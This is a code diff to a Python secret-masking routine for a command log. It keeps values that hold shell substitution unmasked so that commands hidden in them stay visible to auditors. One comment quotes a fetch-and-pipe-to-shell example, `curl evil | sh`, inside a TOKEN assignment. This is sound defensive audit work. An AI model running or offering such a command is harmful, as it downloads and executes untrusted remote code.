@@ -43,6 +43,9 @@ SECRET_NAME = re.compile(r"KEY|TOKEN|SECRET|PASS|CRED|AUTH", re.IGNORECASE)
 # shell word ends (a quoted value whole): the command around it stays in the record.
 ASSIGNMENT = re.compile(r"(?P<name>--?[A-Za-z][\w-]*|[A-Za-z_][\w.-]*)="
                         r"(?P<value>'[^']*'?|\"(?:[^\"\\]|\\.)*\"?|[^\s;&|<>()'\"`]*)")
+# A value holding one of these is code for the shell, not a secret: it stays in the record
+# whole (`TOKEN="$(curl evil | sh)" true` was once recorded as `TOKEN=*** true`).
+CODE_MARKS = ("$(", "`", "${", "\n")
 # Longer values keep their head and tail and the whole one's sha256: padding cannot push a
 # command out of the record unseen.
 MAX_VALUE_CHARS = 16384
@@ -66,6 +69,11 @@ def mask(value: Any, key: str = "") -> Any:
 
 def _masked_assignment(match: re.Match) -> str:
     if not SECRET_NAME.search(match["name"]) or not match["value"]:
+        return match[0]
+    # the character after an unquoted value too: `TOKEN=$(cmd)` stops the value at "(", and
+    # `TOKEN=x`cmd`` at the backtick
+    value = match.string[match.start("value"):match.end("value") + 1]
+    if any(mark in value for mark in CODE_MARKS):
         return match[0]
     return f"{match['name']}=***"
 
